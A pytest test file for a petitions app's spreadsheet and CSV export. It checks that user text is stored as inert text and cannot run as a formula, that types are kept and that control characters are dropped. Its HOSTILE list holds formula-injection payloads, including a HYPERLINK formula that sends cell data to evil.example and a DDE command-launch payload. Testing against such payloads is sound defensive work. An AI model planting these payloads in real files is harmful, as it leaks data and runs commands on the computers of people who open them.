"""Every cell written from user text is inert text in the workbook (formula injection, CWE-1236)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from petitions.spreadsheets import new_workbook, sheet_cell, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _round_trip(values: list[object]) -> tuple[list[object], list[str | None], bytes]:
    workbook = new_workbook()
    ws = workbook.create_sheet("Sổ")
    ws.append([sheet_cell(ws, value) for value in values])
    data = workbook_bytes(workbook)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = list(next(sheet.iter_rows()))
    return [c.value for c in cells], [c.data_type for c in cells], data


def test_text_that_looks_like_a_formula_is_stored_as_text():
    values, types, data = _round_trip(HOSTILE)
    # XML reads a carriage return back as a line feed; the text is otherwise unchanged.
    assert values == [v.replace("\r", "\n") for v in HOSTILE]
    assert set(types) == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_numbers_dates_and_blanks_keep_their_type():
    values, types, _ = _round_trip([42, 3.5, None, "Nguyễn Văn An"])
    assert values == [42, 3.5, None, "Nguyễn Văn An"]
    assert types[:2] == ["n", "n"] and types[3] == "s"


@pytest.mark.parametrize("control", ["\x00", "\x07", "\x1b", "\x1f"])
def test_control_characters_are_dropped_instead_of_failing_the_export(control):
    values, _, _ = _round_trip([f"Lê{control} Thị Hằng"])
    assert values == ["Lê Thị Hằng"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_from_text_never_start_a_formula(value: str) -> None:
    from petitions.spreadsheets import csv_cell

    cell = csv_cell(value)
    assert cell == "'" + value


def test_csv_keeps_numbers_dates_and_vietnamese_text() -> None:
    import csv
    from datetime import date

    from petitions.spreadsheets import csv_bytes

    data = csv_bytes(["a", "b", "c", "d"], [(-5, date(2026, 3, 2), "Nguyễn Văn An", None)])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b", "c", "d"], ["-5", "02/03/2026", "Nguyễn Văn An", ""]]
